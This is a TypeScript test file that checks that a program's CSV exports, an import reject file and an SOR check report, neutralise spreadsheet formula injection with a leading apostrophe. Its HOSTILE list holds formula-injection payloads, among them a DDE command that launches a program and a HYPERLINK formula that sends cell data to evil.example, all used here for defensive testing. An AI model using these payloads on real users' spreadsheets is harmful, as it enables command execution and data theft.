// Every CSV the program writes opens safely in Excel: no cell starts with a character Excel reads as a formula.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { csvCell, safeCell } from '../../schemas/csv-out.ts';
import { findingsCsv } from '../../schemas/sor-report.ts';
import { analyseYdelseCsv, rejectFile } from '../../backend/services/ydelse-csv-import.ts';
import { parseCsv } from '../../backend/services/csv.ts';
import { openDatabase } from '../../db/open.ts';
import { tmpDbPath } from '../helpers.ts';

const HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1;"klik")', '+45 12 34', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

/** The cells of a CSV text, unquoted as Excel reads them. */
function cells(text: string, sep: ';' | ','): string[] {
  return [...parseCsv(text.replace(/^\uFEFF/, ''), sep)].flatMap((r) => r.fields);
}

describe('safe CSV out', () => {
  test('a cell that Excel would read as a formula gets a leading apostrophe, and is quoted when it must be', () => {
    for (const v of HOSTILE) assert.equal(safeCell(v), `'${v}`, v);
    for (const v of ['0101902001', 'BLNB1', 'Plejehjem "Lærkely"', '', '2026-11-03']) assert.equal(safeCell(v), v);
    assert.equal(csvCell('a;b', ';'), '"a;b"');
    assert.equal(csvCell('=1;2', ';'), `"'=1;2"`);
  });

  test('the reject file of a CSV import: no cell starts with =, +, -, @, tab or CR', async () => {
    const { db } = openDatabase(tmpDbPath());
    const rows = HOSTILE.map((v) => `${v.replaceAll(';', ',').replaceAll('\r', '').replaceAll('"', '')};2026-11-03;BLNB1;YDER;24015`);
    const csv = `cpr;dato;ydelseskode;kodetype;institutionskode\n${rows.join('\n')}\n0101902001;=1+1;BLNB1;YDER;24015\n`;
    const a = await analyseYdelseCsv(db, Buffer.from(csv), 'fjendtlig.csv', '2026-11-30');
    const out = rejectFile(a)!;
    const all = cells(out, ';');
    assert.ok(all.length > HOSTILE.length * 5);
    for (const c of all) assert.doesNotMatch(c, /^[=+\-@\t\r]/, c);
    assert.ok(all.includes("'=1+1"), 'the value is kept, as text');
  });

  test('the SOR check report (CSV): a unit named like a formula is text', () => {
    const r = {
      checkDate: '2026-11-30',
      snapshotDate: '2026-11-01',
      units: 1,
      skippedRules: [],
      findings: [
        {
          rule: 'PE-X',
          severity: 'error' as const,
          sorId: '1',
          name: '=HYPERLINK("http://evil.example")',
          message: '+besked',
          guide: '-',
          suggestion: '@handling',
          related: [],
        },
      ],
      preview: null,
    };
    const all = cells(findingsCsv(r as never), ';');
    for (const c of all) assert.doesNotMatch(c, /^[=+\-@\t\r]/, c);
    assert.ok(all.includes(`'=HYPERLINK("http://evil.example")`));
  });
});
